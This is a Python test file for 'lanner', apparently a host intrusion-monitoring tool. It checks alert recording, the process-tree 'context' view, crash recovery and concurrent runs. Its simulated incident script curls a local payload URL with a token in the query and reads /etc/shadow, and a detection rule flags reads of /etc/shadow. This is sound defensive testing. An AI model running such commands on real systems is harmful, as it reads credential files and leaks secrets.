"""What one host remembers: `lanner run` alone, then `lanner alerts list` and `lanner context`, without a broker."""

import json
import os
import pty
import re
import signal
import subprocess
import sys
from pathlib import Path

import pytest

from tests.live.lanner.watching import Watching, eventually, touch_mark
from tests.unit.lanner.program import fresh as lanner

pytestmark = pytest.mark.live

SHADOW = """
- rule: Shadow read
  desc: d
  condition: evt.type = openat and fd.name = /etc/shadow and evt.is_open_read = true and proc.pcmdline contains {mark}
  output: shadow read (command=%proc.cmdline)
  priority: WARNING
"""
INCIDENT = """
: {mark}
curl -s -m 2 'http://127.0.0.1:9/payload?token=hunter2'
cat /etc/shadow
for i in 1 2 3 4 5; do true; /bin/true; done
exit 3
"""


@pytest.fixture
def kept(tmp_path: Path) -> Path:
    """Return the folder of the recording."""
    return tmp_path / "kept"


def watching(rules: Path, kept: Path) -> Watching:
    """Return a `lanner run` that records to a folder."""
    return Watching("run", "-r", rules, "-o", f"keep.folder={kept}", "--format", "json")


def past(*arguments: str | Path, kept: Path) -> str:
    """Return what a command prints of the recording."""
    done = lanner(*arguments, "-o", f"keep.folder={kept}")
    assert done.returncode == 0, done.stderr
    assert done.stderr == f"reading this host's own recording in {kept}; --topic reads a fleet's.\n"
    return done.stdout


def test_an_incident_is_explained_afterwards(rules: Path, kept: Path) -> None:
    """From the list of alerts to the tree: the shell, its download, the read, and what was not collected."""
    # Other programs of this machine may read the same file.
    rules.write_text(SHADOW.format(mark=kept))
    with watching(rules, kept) as running:
        subprocess.run(["bash", "-c", INCIDENT.format(mark=kept)], stdout=subprocess.DEVNULL, check=False)
        reported = json.loads(running.out.wait_for("Shadow read"))
        assert running.end() == 0

    (line,) = past("alerts", "list", "--rule", "Shadow read", "--format", "json", kept=kept).splitlines()
    identity = json.loads(line)["id"]
    assert identity == reported["id"]

    tree = past("context", identity, kept=kept)
    # Started by this test, whose own processes are above.
    shell = re.search(r"^( *)[^\n]*bash\((\d+)\) root: bash -c ", tree, re.MULTILINE)
    assert shell, tree
    below = tree[shell.end() :]
    assert re.search(r"├─ [\d:.]+ curl\(\d+\) root: curl -s -m 2 http://127.0.0.1:9/payload\?token=\[redacted\]", below)
    assert re.search(r"^[│ ]+[\d:.]+ connect 127\.0\.0\.1:9: E", below, re.MULTILINE)
    assert re.search(r"├─ [\d:.]+ cat\(\d+\) root: cat /etc/shadow \[exit 0, ", below)
    assert re.search(
        r"^[│ ]+> [\d:.]+ open /etc/shadow\n[│ ]+! Warning Shadow read \(this alert\)$", below, re.MULTILINE
    )
    assert re.search(r"└─ [\d:.]+ true\(\d+\) root \[exit 0, [\d:.]+\] \[and 4 more that did the same\]", below)
    assert "Collected in full: connect, execve, execveat, listen, procexit." in tree
    assert "Collected only if a rule at that time could match: openat." in tree
    assert "The collector was stopped cleanly" in tree
    assert "hunter2" not in tree

    flat = past("context", identity, "--flat", kept=kept)
    assert len([row for row in flat.splitlines() if row.startswith("> ") and "openat(" in row]) == 1
    rows = [json.loads(row) for row in past("context", identity, "--format", "json", kept=kept).splitlines()]
    assert [row["fd.name"] for row in rows if row.get("alert")] == ["/etc/shadow"]
    assert {"execve", "procexit", "connect"} <= {row["evt.type"] for row in rows[:-1]}


def test_what_was_seen_survives_a_kill(rules: Path, kept: Path, tmp_path: Path) -> None:
    """Also in the terminal of a narrow window; the next run continues beside it."""
    with watching(rules, kept) as running:
        mark = touch_mark(tmp_path)
        identity = json.loads(running.out.wait_for(str(mark)))["id"]
        eventually(lambda: any(kept.glob("alerts/*.avro")), "no alert was recorded")
        eventually(lambda: "(this alert)" in past("context", identity, kept=kept), "its event was not recorded")
        running.end(signal.SIGKILL)
    newest = max(kept.glob("*.avro"))
    with newest.open("ab") as file:
        file.write(b"\x02\xff")
    with watching(rules, kept):
        touch_mark(tmp_path, "b")
    reader, terminal = pty.openpty()
    command = [sys.executable, "-m", "lanner", "context", identity, "--file", kept]
    environment = {**os.environ, "COLUMNS": "40", "NO_COLOR": "1"}
    subprocess.run(command, stdout=terminal, env=environment, check=True, stderr=subprocess.PIPE)
    os.close(terminal)
    shown = os.read(reader, 1 << 16).decode()
    tree = re.split("#|Other alerts", shown)[0].splitlines()[3:]
    assert max(map(len, tree)) <= 40
    assert "\x1b" not in shown
    assert "(this alert)" in " ".join(shown.split())


def test_two_runs_watch_at_once(rules: Path, kept: Path, tmp_path: Path) -> None:
    """Only the first records; the second one reports that, and raises its alerts."""
    with watching(rules, kept) as first, watching(rules, kept) as second:
        mark = touch_mark(tmp_path)
        first.out.wait_for(str(mark))
        second.out.wait_for(str(mark))
        assert "another process records to this folder" not in first.err.text
        assert "another process records to this folder. This run records nothing" in second.err.text
        assert first.end() == second.end() == 0
    assert past("alerts", "list", kept=kept).count(f"(file={mark}") == 1
